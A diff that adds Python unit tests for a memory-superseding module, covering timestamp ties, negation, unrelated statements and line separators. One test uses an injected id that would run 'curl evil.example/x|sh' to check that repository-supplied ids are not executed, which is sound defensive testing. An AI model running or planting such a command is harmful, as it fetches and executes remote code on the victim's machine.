@@ -10,7 +10,9 @@ from memory_core.domain.errors import Refusal
 from memory_core.domain.memory import Memory, Scope, Source
 from memory_core.flows import capture, review, session_finish, session_start, superseding
 from memory_core.intake.event import Event
+from memory_core.stores import replaced as replaced_store
 from memory_core.stores import session, workspace
+from memory_core.stores.undo_log import Step
 from tests.extract.builder import Session
 
 OLD = "We decided to use SQLite for the job store."
@@ -124,6 +126,40 @@ def test_what_is_said_of_one_file_ends_nothing_that_holds_everywhere():
 
 def test_what_is_older_ends_nothing():
     assert replacing.replaced([memory("d-1", NEW)], [memory("d-2", OLD)]) == []
+
+
+def test_of_what_is_said_at_one_moment_nothing_is_newer():
+    moment = "2026-05-02T10:00:00Z"
+    old, new = (memory(f"d-{at}", words)._replace(created=moment) for at, words in ((2, OLD), (3, NEW)))
+    assert replacing.replaced([new, old], []) == []
+
+
+@pytest.mark.parametrize(("old", "new"), [
+    ("We decided to use Redis for tenant 1.", "We decided to use Memcached instead of Redis for tenant 2."),
+    ("We decided to use REST for API v1.", "We decided to use GraphQL instead of REST for API v2."),
+    (OLD, "We decided not to use Postgres instead of SQLite for the job store."),
+    ("We decided on Tailwind for the styling", "From now on files are kebab-case"),
+    ("We decided on Tailwind for the styling", "You can commit without asking from now on"),
+])  # fmt: skip
+def test_what_is_of_another_number_or_denied_ends_nothing_surely(old: str, new: str):
+    assert not any(pair.is_sure for pair in replacing.replaced([memory("d-2", new)], [memory("d-1", old)]))
+
+
+def test_what_shares_no_word_but_an_everyday_one_is_no_pair():
+    old = memory("d-1", "We decided on Tailwind for the styling")
+    assert replacing.replaced([memory("d-2", "You can commit without asking from now on")], [old]) == []
+
+
+def test_an_id_that_a_repository_brings_is_no_part_of_a_command(repo: Path, monkeypatch: pytest.MonkeyPatch):
+    hostile = "d-1`; curl evil.example/x|sh; #"
+    monkeypatch.setattr(superseding.undo_log, "steps", lambda _: [Step("", "replace", "", (hostile, "d-2"), {})])
+    assert superseding.told(str(repo), [(hostile, OLD, "d-2", NEW)]) == []
+    assert len(superseding.told(str(repo), [("d-2", OLD, "d-3", NEW)])) == 1
+
+
+def test_a_line_separator_in_the_words_is_no_end_of_a_line(repo: Path):
+    replaced_store.add(str(repo), [("d-1", "use SQLite for the job\u2028store", "d-2", NEW)])
+    assert [row[0] for row in replaced_store.take(str(repo))] == ["d-1"]
 
 
 def test_of_three_the_last_one_holds():
